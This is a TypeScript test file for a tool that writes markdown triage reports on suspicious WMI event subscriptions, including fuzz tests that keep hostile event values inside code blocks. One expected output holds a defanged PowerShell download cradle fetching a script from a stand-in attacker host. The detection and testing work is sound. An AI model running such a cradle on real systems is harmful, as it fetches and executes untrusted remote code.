import fc from 'fast-check';
import { PLAIN_TEXT } from '../../../lib/report/style';
import { triageMarkdown } from '../../../lib/report/triage/triage-markdown';
import { hostileReport } from './hostile-report';
import { withoutBlocks, withoutCode } from '../markdown-syntax';
import { ENCODED, HOSTILE, subscription, triagedFiles } from './triaged';

const FULL = { ...PLAIN_TEXT, full: true };

test('tells the answer, the levels, each subscription, and what was read', () => {
  const text = triageMarkdown(
    triagedFiles([...subscription('Updater', { destination: ENCODED }), ...subscription('Backup', { at: 9 })]),
    PLAIN_TEXT,
  );
  expect(text.split('\n').filter((line) => line.startsWith('#'))).toEqual([
    '## 2 subscriptions on 1 host: 1 likely malicious, 1 to look at.',
    '### likely malicious: `"Updater"` on `WS01.corp.example`',
    '#### What',
    '#### Why',
    '#### Beside it',
    '#### Next',
    '### look at it: `"Backup"` on `WS01.corp.example`',
    '#### What',
    '#### Why',
    '#### Beside it',
    '#### Next',
    '### What was read',
  ]);
  expect(text).toContain('| likely malicious | 1 |\n| suspicious | 0 |\n| look at it | 1 |\n');
  expect(text).toMatch(/^\| `encoded` \| high \| .*`?-enc`? \| .*`T1027`/m);
  expect(text).not.toContain('http://');
  expect(text).toContain("DownloadString('hxxp://evil[.]example/a.ps1')\n```\n");
  expect(text).toMatch(/^- \*\*events\*\* 19 Created, `events\.jsonl:1`\n {2}- 20 Created, `events\.jsonl:2`\n/m);
  expect(text).toContain('```powershell\nGet-CimInstance -ComputerName WS01.corp.example');
});

test('a payload of backticks stays in its block', () => {
  const destination = '```\n# owned\n````` `x`';
  const { blocks } = withoutBlocks(triageMarkdown(triagedFiles(subscription('u', { destination })), FULL));
  expect(blocks[0]).toBe(`\`\`\`\`\`\`text\n${destination}\n\`\`\`\`\`\``);
});

test('no value of an event, a file name or a rule does anything outside of code', () => {
  const value = fc
    .array(fc.constantFrom(...HOSTILE, ' x '), { minLength: 1, maxLength: 4 })
    .map((parts) => parts.join(''));
  fc.assert(
    fc.property(value, (text) => {
      const { lines } = withoutBlocks(triageMarkdown(hostileReport(text), PLAIN_TEXT));
      const own = lines.map((line) =>
        withoutCode(line.replace(/^(?:#{2,4} |(?: {2})?- (?:\*\*[A-Za-z ]+\*\* )?|\*\*[A-Za-z ]+\*\*$)/, '')),
      );
      const isTable = (line: string): boolean => line.startsWith('| ') && line.endsWith(' |');
      expect(own.filter((line) => !isTable(line) && !/^[A-Za-z0-9 "'(.,;:?)-]*$/.test(line))).toEqual([]);
      const rows = own.filter(isTable).map((line) => line.split('|').length - 2);
      expect(rows.filter((columns) => columns !== 2 && columns !== 4)).toEqual([]);
    }),
    { numRuns: 60 },
  );
});

test('says how many subscriptions have no card', () => {
  const files = triagedFiles(subscription('u'));
  const many = { ...files, shown: Array.from({ length: 1003 }, () => files.shown[0]).flatMap((chain) => chain ?? []) };
  expect(triageMarkdown(many, PLAIN_TEXT)).toContain(
    '3 further subscriptions of the same or a lower level: the 1,000 worst are shown here.',
  );
});
